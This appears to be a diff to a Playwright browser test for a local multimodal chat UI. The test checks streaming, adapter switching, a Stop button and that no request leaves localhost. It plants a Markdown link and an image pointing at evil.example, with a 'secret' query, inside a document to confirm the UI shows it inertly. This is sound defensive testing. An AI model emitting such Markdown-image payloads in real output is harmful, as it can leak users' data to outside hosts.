@@ -1,9 +1,11 @@
 """End to end in a real browser: `mmagent ui` on a localhost port with the embedded default model and a
 random LoRA adapter, driven by headless Chromium through Playwright (Debian's chromium; no download).
 
-Uploads the shipped cat photo, asks about it, waits for the streamed answer, switches the adapter, asks
-again, and checks that the base model loaded exactly once. Screenshots go to tmp_path, and also to
-$MMAGENT_UI_SCREENSHOTS when set (that is how docs/ui-chat.png is made). Timings are printed (-s).
+Uploads the shipped cat photo, asks about it while the answer streams (the "Generating…" line with the
+elapsed time and a Stop button), switches the adapter, adds a document with planted Markdown and asks
+about it (the source excerpt shows the Markdown literally), stops an answer mid-way, and checks that
+the base model loaded exactly once and that no request left 127.0.0.1. Screenshots go to tmp_path, and
+also to $MMAGENT_UI_SCREENSHOTS when set (that is how docs/ui-chat.png is made). Timings are printed (-s).
 """
 
 from __future__ import annotations
@@ -22,6 +24,11 @@ from pathlib import Path
 
 import pytest
 from conftest import require_binary
+
+try:
+    from playwright.sync_api import TimeoutError as PlaywrightTimeout
+except ImportError:  # the tests skip without playwright
+    PlaywrightTimeout = TimeoutError
 
 pytestmark = pytest.mark.default_model
 ANSWER_TIMEOUT = 150  # s per answer on 2 busy CPU cores
@@ -99,16 +106,25 @@ def wait_answers(tmp_path: Path, count: int) -> dict:
 
 def idle(page) -> None:
     """Wait until the script is not running (a rerun redraws the chat input and drops an attachment)."""
-    page.wait_for_timeout(300)
+    page.wait_for_timeout(1000)  # the status widget shows up a moment after a rerun starts
     page.locator('[data-testid="stStatusWidget"]').wait_for(state="detached", timeout=ANSWER_TIMEOUT * 1000)
+    page.wait_for_function("() => !document.querySelector('[data-stale=\"true\"]')",
+                           timeout=ANSWER_TIMEOUT * 1000)  # and the last run's leftovers are gone
 
 
 def ask(page, text: str, attach: Path | None = None) -> None:
     chat = page.locator('[data-testid="stChatInput"]')
     idle(page)
-    if attach is not None:
+    for _ in range(3 if attach is not None else 0):  # a rerun that starts meanwhile drops the attachment
         chat.locator('input[type="file"]').set_input_files(str(attach))
-        chat.get_by_text(attach.name).first.wait_for(timeout=20_000)  # the attachment chip
+        try:
+            chat.get_by_text(attach.name).first.wait_for(timeout=15_000)  # the attachment chip
+            break
+        except PlaywrightTimeout:
+            idle(page)
+    else:
+        if attach is not None:
+            raise AssertionError(f"{attach.name} was not attached")
     send(page, text)
 
 
@@ -124,8 +140,38 @@ def send(page, text: str) -> None:
     raise AssertionError(f"the chat input did not take {text!r}")
 
 
-def shot(page, tmp_path: Path, name: str) -> Path:
-    idle(page)
+def local_only(context, base: str) -> list[str]:
+    """Record (and refuse) every request of `context` that does not go to the app at `base`; the test
+    fails on any. Favicons bypass Playwright's request events, so :func:`external_links` checks those."""
+    outside: list[str] = []
+
+    def note(url: str) -> None:
+        if not url.startswith((base, base.replace("http", "ws", 1), "data:", "blob:")):
+            outside.append(url)
+
+    context.on("request", lambda request: note(request.url))
+    context.on("page", lambda page: page.on("websocket", lambda ws: note(ws.url)))
+    context.route(re.compile(r"^(?!" + re.escape(base) + r"|data:|blob:)"),
+                  lambda route: (note(route.request.url), route.abort()))
+    return outside
+
+
+def external_links(page, base: str) -> list[str]:
+    """Addresses in the page (icons, images, scripts, style sheets, links) that point away from the app."""
+    urls = page.eval_on_selector_all("link[href], img[src], script[src], iframe[src], a[href]",
+                                     "els => els.map(e => e.href || e.src)")
+    return [u for u in urls if not u.startswith((base, "data:", "blob:", "about:", "javascript:"))]
+
+
+def clipped(page, selector: str) -> list[str]:
+    """Texts under `selector` that are cut off with an ellipsis because they do not fit."""
+    return page.eval_on_selector_all(selector, """els => els.filter(e => getComputedStyle(e).textOverflow === 'ellipsis'
+        && e.scrollWidth > e.clientWidth + 1).map(e => e.textContent)""")
+
+
+def shot(page, tmp_path: Path, name: str, *, wait: bool = True) -> Path:
+    if wait:
+        idle(page)
     path = tmp_path / name
     page.screenshot(path=str(path), full_page=True)
     if os.environ.get("MMAGENT_UI_SCREENSHOTS"):
@@ -135,14 +181,21 @@ def shot(page, tmp_path: Path, name: str) -> Path:
     return path
 
 
+PLANTED = "[click me](http://evil.example/x) ![x](http://evil.example/?q=secret)"
+
+
 def test_chat_in_a_real_browser(server, tmp_path, cat_photo):
     chromium = require_binary("chromium")
     sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (test extra)")
     url, log, started = server
+    notes = tmp_path / "cafeteria-notes.md"  # a document with Markdown planted in it, as an attacker would
+    notes.write_text(f"# Cafeteria hours\nThe staff cafeteria opens at 7:30 in the morning and closes at 15:00. {PLANTED}\n")
     timings: dict[str, float] = {}
     with sync_api.sync_playwright() as p:
         browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
-        page = browser.new_page(viewport={"width": 1280, "height": 1000})
+        context = browser.new_context(viewport={"width": 1280, "height": 1000})
+        outside = local_only(context, url)
+        page = context.new_page()
         page.goto(url)
         page.locator('[data-testid="stChatInput"]').wait_for(timeout=60_000)
         timings["cold start to first render"] = time.perf_counter() - started
@@ -152,33 +205,68 @@ def test_chat_in_a_real_browser(server, tmp_path, cat_photo):
 
         t = time.perf_counter()
         ask(page, "What animal is in this photo?", attach=cat_photo)
+        stop = page.locator('[data-testid="stChatMessage"]').get_by_role("button", name=re.compile(r"Stop$"))
+        stop.wait_for(timeout=ANSWER_TIMEOUT * 1000)  # generating: elapsed time and Stop while it streams
+        page.get_by_text("Generating…").wait_for(timeout=20_000)
+        page.get_by_text(re.compile(r"^\(\d+\.\d seconds\)$")).wait_for(timeout=20_000)  # the elapsed time
+        shot(page, tmp_path, "ui-generating.png", wait=False)
         conv = wait_answers(tmp_path, 1)
         timings["first answer"] = time.perf_counter() - t
         first = conv["messages"][-1]
-        assert first["kind"] == "text" and first["text"] and first["adapter"] is None
+        assert first["kind"] == "text" and first["text"] and first["adapter"] is None and not first["stopped"]
         assert conv["messages"][0]["images"], "the photo was not attached to the question"
         page.get_by_text(first["text"][:20]).first.wait_for(timeout=20_000)  # streamed into the page
         assert page.locator('[data-testid="stChatMessage"] img').count() >= 1  # the photo, inline
+        assert stop.count() == 0
+        page.locator('[data-testid="stSidebar"]').get_by_text(re.compile(r"^What animal is in this photo\? · \d\d:\d\d$")).wait_for(timeout=30_000)
+        assert not clipped(page, '[data-testid="stSidebar"] *')  # sidebar options and titles are readable
         shot(page, tmp_path, "ui-chat.png")  # docs/ui-chat.png: the base model's answer about the photo
 
         page.locator('[data-testid="stSelectbox"]').filter(has_text="Adapter").click()
         page.get_by_role("option", name="random").click()
-        t = time.perf_counter()
-        ask(page, "What animal is in this photo?", attach=cat_photo)
-        conv = wait_answers(tmp_path, 2)
-        timings["answer after adapter switch"] = time.perf_counter() - t
-        second = conv["messages"][-1]
-        assert second["kind"] == "text" and second["adapter"] == "random"
         switch = page.get_by_text(re.compile(r"last adapter switch [\d.]+ ms"))
-        switch.wait_for(timeout=30_000)
+        switch.wait_for(timeout=30_000)  # the rerun that readies the adapter has run
         timings["adapter switch"] = float(re.search(r"switch ([\d.]+) ms", switch.inner_text()).group(1)) / 1000
+        t = time.perf_counter()
+        ask(page, "When does the cafeteria open?", attach=notes)  # added to memory, then answered from it
+        conv = wait_answers(tmp_path, 3)
+        timings["document added and answered after adapter switch"] = time.perf_counter() - t
+        note, second = conv["messages"][-2], conv["messages"][-1]
+        assert note["kind"] == "note" and second["kind"] == "text" and second["adapter"] == "random"
+        assert any(s["source"]["uri"].endswith("cafeteria-notes.md") and PLANTED in s["source"]["excerpt"]
+                   for s in second["sources"]), second["sources"]
         assert page.get_by_text(re.compile(r"Model loads: 1 ")).count() == 1
-        shot(page, tmp_path, "ui-adapter-switch.png")
+        excerpt = page.locator('[data-testid="stExpander"]').filter(has_text="Sources").last
+        excerpt.get_by_text("# Cafeteria hours").first.wait_for(timeout=20_000)  # not a heading
+        shown = excerpt.inner_text().replace("\u2060", "")  # the word joiner that keeps addresses from linking
+        assert PLANTED in shown, shown  # the planted Markdown, character for character
+        live = page.locator('[data-testid="stChatMessage"]').locator(
+            "a[href*='evil'], img[src*='evil'], h1, h2, h3, h4, h5, h6")
+        assert live.count() == 0, live.evaluate_all("els => els.map(e => e.outerHTML)")  # no link, image, heading
+        shot(page, tmp_path, "ui-sources.png")
+
+        ask(page, "Tell me a long story about the cafeteria.")
+        stop.wait_for(timeout=ANSWER_TIMEOUT * 1000)
+        t = time.perf_counter()
+        stop.click()
+        conv = wait_answers(tmp_path, 4)
+        timings["stop click to saved"] = time.perf_counter() - t
+        stopped = conv["messages"][-1]
+        assert stopped["kind"] == "text" and stopped["stopped"], stopped
+        page.get_by_text(re.compile(r"^Stopped after [\d.]+ s(\.|, before any text\.)$")).wait_for(timeout=30_000)
+        assert stop.count() == 0
+        ended = re.search(r"generation ended ([\d.]+) s after Stop", log.read_text())
+        assert ended, log.read_text()
+        timings["generation ended after Stop"] = float(ended.group(1))
+        shot(page, tmp_path, "ui-stopped.png")
+        away = external_links(page, url)
         browser.close()
+    assert not outside and not away, (outside, away)  # nothing left 127.0.0.1, not even the page icon
     server_log = log.read_text()
     assert len(re.findall(r"model loaded in", server_log)) == 1, server_log  # the base never reloaded
     assert "adapter switch to random" in server_log
     assert timings["adapter switch"] < timings["model load"] / 10
+    assert timings["generation ended after Stop"] < 5  # within a token or two, not the rest of the answer
     timings["e2e total"] = time.perf_counter() - started
     print("\nUI timings (s): " + ", ".join(f"{k} {v:.4g}" for k, v in timings.items()))
 
